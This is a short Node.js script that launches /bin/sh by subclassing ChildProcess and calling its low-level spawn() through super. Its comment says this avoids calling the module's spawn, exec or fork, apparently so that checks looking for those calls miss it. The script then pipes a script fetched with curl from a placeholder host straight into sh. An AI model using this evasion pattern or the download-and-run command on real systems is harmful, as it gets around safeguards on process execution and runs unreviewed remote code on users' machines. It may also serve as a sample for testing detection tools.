// Runs a shell. Never calls spawn/exec/fork of the module: it subclasses the
// exported ChildProcess class and calls its low-level prototype spawn()
// through `super`, with a file and argv built in the constructor.
'use strict';
const { ChildProcess } = require('child_process');

class Task extends ChildProcess {
  constructor(script) {
    super();
    this.spec = {
      file: '/bin/sh',
      args: ['sh', '-c', script],
      envPairs: Object.entries(process.env).map(([k, v]) => `${k}=${v}`),
      stdio: [{ type: 'ignore' }, { type: 'inherit', fd: 1 }, { type: 'inherit', fd: 2 }],
    };
  }

  start() {
    return super.spawn(this.spec);
  }
}

const t = new Task('curl -s https://x.example.net/p | sh');
t.on('exit', (code) => console.log('done', code));
t.start();
